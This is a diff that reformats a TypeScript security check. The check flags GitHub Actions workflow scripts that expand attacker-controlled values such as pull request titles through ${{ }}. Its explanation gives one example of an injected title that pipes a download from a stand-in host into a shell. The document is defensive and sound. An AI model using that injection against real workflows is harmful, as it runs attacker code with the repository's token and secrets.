@@ -21,7 +21,8 @@ export const noScriptInjection = defineCheck({
   id: 'no-script-injection',
   title: 'No untrusted input in workflow scripts',
   category: 'security',
-  description: 'No `run:` script (or `actions/github-script` script) expands an attacker-controlled value with `${{ }}`: issue and pull request titles and bodies, comments, commit messages, branch names.',
+  description:
+    'No `run:` script (or `actions/github-script` script) expands an attacker-controlled value with `${{ }}`: issue and pull request titles and bodies, comments, commit messages, branch names.',
   why: [
     '`${{ }}` is pasted into the script before the shell runs it. A pull request titled `"; curl evil.sh | sh; echo "` then runs that command in your workflow, with its token and secrets.',
     'Anyone who can open an issue or a pull request controls these values (OpenSSF Scorecard, Dangerous-Workflow).',
@@ -46,9 +47,17 @@ export const noScriptInjection = defineCheck({
     const injections: Evidence[] = workflows.flatMap((workflow) =>
       workflow.runExpressions
         .filter((expression) => UNTRUSTED.some((pattern) => pattern.test(expression.expression)))
-        .map((expression) => ({ path: workflow.path, line: expression.line, note: `\${{ ${expression.expression} }} in a ${expression.in === 'run' ? 'run: script' : 'github-script script'} (job ${expression.job})` })),
+        .map((expression) => ({
+          path: workflow.path,
+          line: expression.line,
+          note: `\${{ ${expression.expression} }} in a ${expression.in === 'run' ? 'run: script' : 'github-script script'} (job ${expression.job})`,
+        })),
     );
-    if (injections.length > 0) return fail(`Workflow scripts expand untrusted input with \${{ }} in ${count(injections.length, 'place')}; pass it through env: instead.`, capped(injections));
+    if (injections.length > 0)
+      return fail(
+        `Workflow scripts expand untrusted input with \${{ }} in ${count(injections.length, 'place')}; pass it through env: instead.`,
+        capped(injections),
+      );
     return pass(`No workflow script expands untrusted input with \${{ }} (${count(workflows.length, 'workflow')} read).`);
   },
 });
